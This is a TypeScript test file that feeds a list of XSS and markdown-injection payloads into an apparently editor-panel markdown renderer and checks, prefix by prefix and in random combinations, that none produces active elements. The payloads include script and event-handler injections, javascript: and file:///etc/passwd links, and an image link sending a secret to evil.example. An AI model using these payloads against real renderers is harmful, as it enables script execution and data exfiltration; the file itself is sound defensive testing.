// @vitest-environment jsdom
import fc from 'fast-check';
import { describe, expect, test } from 'vitest';
import { answerElements } from '../helpers/answerElements.mjs';
import { draws } from '../helpers/draws';

const payloads = [
	'<script>alert(1)</script>',
	'<img src=x onerror=alert(1)>',
	'<svg><script>alert(1)</script></svg>',
	'<svg/onload=alert(1)>',
	'<iframe srcdoc="<script>alert(1)</script>"></iframe>',
	'<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
	'<form action="https://evil.example"><input name=a><button>Go</button></form>',
	'<style>@import "https://evil.example/x.css";</style>',
	'<base href="https://evil.example/">',
	'<meta http-equiv="refresh" content="0;url=https://evil.example">',
	'<a href="command:workbench.action.terminal.new">x</a>',
	'[x](command:workbench.action.terminal.new)',
	'[x](javascript:alert(1))',
	'[x](JaVaScRiPt:alert(1))',
	'[x](java&#x73;cript:alert(1))',
	'[x](data:text/html;base64,PHNjcmlwdD4=)',
	'[x](vscode://file/etc/passwd)',
	'[x](file:///etc/passwd)',
	'[x](inkling-place:/etc/passwd#L1)',
	'[x](inkling-place:"onmouseover=alert(1)#L1)',
	'![x](https://evil.example/pixel.png?secret)',
	'![x](data:image/svg+xml;base64,PHN2Zz4=)',
	'[x]: https://evil.example "a\\" onmouseover=alert(1)"\n\n[x]',
	'[x](https://evil.example/"onmouseover="alert(1))',
	'<https://evil.example/?"><script>alert(1)</script>>',
	'```html\n<script>alert(1)</script>\n```',
	'```"><img src=x onerror=alert(1)>\ncode\n```',
	'| a |\n|:-:|\n| <img src=x onerror=alert(1)> |',
	'# <img src=x onerror=alert(1)>',
	'- [ ] <details open ontoggle=alert(1)>',
	'&lt;script&gt;alert(1)&lt;/script&gt;',
	'`<img src=x onerror=alert(1)>`',
];

const tags = new Set(
	'a blockquote br code em h1 h2 h3 h4 h5 h6 hr li ol p pre s span strong table tbody td th thead tr ul'.split(' '),
);
const attributes = new Set([
	'class',
	'data-address',
	'data-language',
	'data-place',
	'role',
	'start',
	'tabindex',
	'title',
]);

/** What could load, run, submit or lead anywhere but through the panel's own question. */
function dangers(markdown: string): readonly string[] {
	return answerElements(markdown).flatMap(element => [
		...(tags.has(element.tag) ? [] : [`<${element.tag}>`]),
		...Object.keys(element.attributes)
			.filter(name => !attributes.has(name))
			.map(name => `${element.tag} ${name}`),
		...(/^(?:https?:|$)/i.test(element.attributes['data-address'] ?? '')
			? []
			: [`address ${element.attributes['data-address']}`]),
	]);
}

describe('S2: whatever a model writes', () => {
	test.each(payloads)('%s is text at every step of its arrival', payload => {
		for (let length = 1; length <= payload.length; length++) expect(dangers(payload.slice(0, length))).toEqual([]);
	});

	test('attacks put together in any order are text', () => {
		const glue = fc.constantFrom('', ' ', '\n', '\n\n', '> ', '- ', '`', '**', '"', "'", '>', '](', '<!--', ']]>');
		const pieces = fc.array(fc.tuple(fc.constantFrom(...payloads), glue), { minLength: 1, maxLength: 5 });
		fc.assert(
			fc.property(pieces, parts => {
				expect(dangers(parts.flat().join(''))).toEqual([]);
			}),
			{ numRuns: draws(100, 5000) },
		);
	});

	test('what is meant to be there is there', () => {
		const shown = answerElements('# Tides\n\n**high** and [low](https://example.org/a)\n\n```ts\nconst a = 1;\n```');
		expect(shown.map(({ tag }) => tag)).toEqual(['h1', 'p', 'strong', 'a', 'pre', 'code']);
		expect(shown[3]?.attributes).toMatchObject({ 'data-address': 'https://example.org/a', role: 'link' });
		expect(shown[4]?.attributes).toMatchObject({ 'data-language': 'ts' });
	});
});
